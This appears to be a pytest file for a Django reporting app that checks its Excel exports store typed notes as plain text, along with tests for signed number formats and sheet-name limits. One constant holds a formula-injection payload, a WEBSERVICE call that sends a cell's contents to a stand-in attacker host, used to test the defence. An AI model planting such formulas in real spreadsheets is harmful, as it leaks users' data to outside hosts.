"""Every .xlsx the product writes keeps stored text as text: a note typed as a
formula never runs in the file a unit or an admin opens."""

import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from reporting.returns_template import return_template
from reporting.services import indicator_value_save
from units.models import Unit
from yuecheng_housing.lib.xlsx import Signed, sheet_response, sheet_title

pytestmark = pytest.mark.django_db
HOSTILE = '=WEBSERVICE("http://evil.example/?"&D3)'


def _formulas(data: bytes) -> list[str]:
    """The formulas stored in the workbook's sheets, as Excel would run them."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_a_note_typed_as_a_formula_is_text_in_every_template(plan, admin_user):
    jianshe = Unit.objects.get(name="区建设局")
    indicator_value_save(
        user=admin_user, unit=jianshe, indicator=jianshe_indicator(),
        period=date(2023, 6, 1), value=Decimal("1.4"), note=HOSTILE,
    )  # fmt: skip
    for units in ([jianshe], list(Unit.objects.exclude(kind=Unit.Kind.GROUP))):
        data = return_template(units=units, period=date(2023, 6, 1))
        assert _formulas(data) == []
        sheet = load_workbook(io.BytesIO(data))["指标"]
        cells = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE]
        assert cells and all(c.data_type == "s" for c in cells)


def jianshe_indicator():
    from indicators.models import Indicator

    return Indicator.objects.get(code=2)


def test_briefing_sheets_write_signs_as_they_are():
    response = sheet_response(
        filename="通报.xlsx",
        title="通报",
        sheet_name="通报",
        sections=[("", ["指标", "变化"], [[HOSTILE, "+2.9"], ["-", "@x"]])],
    )
    assert _formulas(response.content) == []
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in sheet[4]] == [HOSTILE, "+2.9"]  # no apostrophe
    assert [c.value for c in sheet[5]] == ["-", "@x"]


def test_a_signed_change_is_a_number_shown_with_its_sign():
    """'+2.9 as text shows an apostrophe in Excel and LibreOffice: a number
    formatted with its sign shows +2.9 and sums."""
    response = sheet_response(
        filename="通报.xlsx",
        title="通报",
        sheet_name="通报",
        sections=[("", ["指标", "还需每月"], [["甲", Signed(Decimal("2.9"))],
                                         ["乙", Signed(Decimal("-3"))]])],
    )  # fmt: skip
    sheet = load_workbook(io.BytesIO(response.content)).active
    rise, fall = sheet["B4"], sheet["B5"]
    assert (rise.value, rise.data_type, rise.number_format) == (2.9, "n", "+0.0;-0.0;0")
    assert (fall.value, fall.data_type, fall.number_format) == (-3, "n", "+0;-0;0")


def test_a_sheet_name_is_given_whole_or_refused():
    assert sheet_title("晾晒排名（2026年）") == "晾晒排名（2026年）"
    with pytest.raises(ValueError, match="31个字符"):
        sheet_title("越城区“住有宜居”责任单位晾晒排名（2026年，截至2026年12月7日）")
    with pytest.raises(ValueError):
        sheet_title("排名/2026")
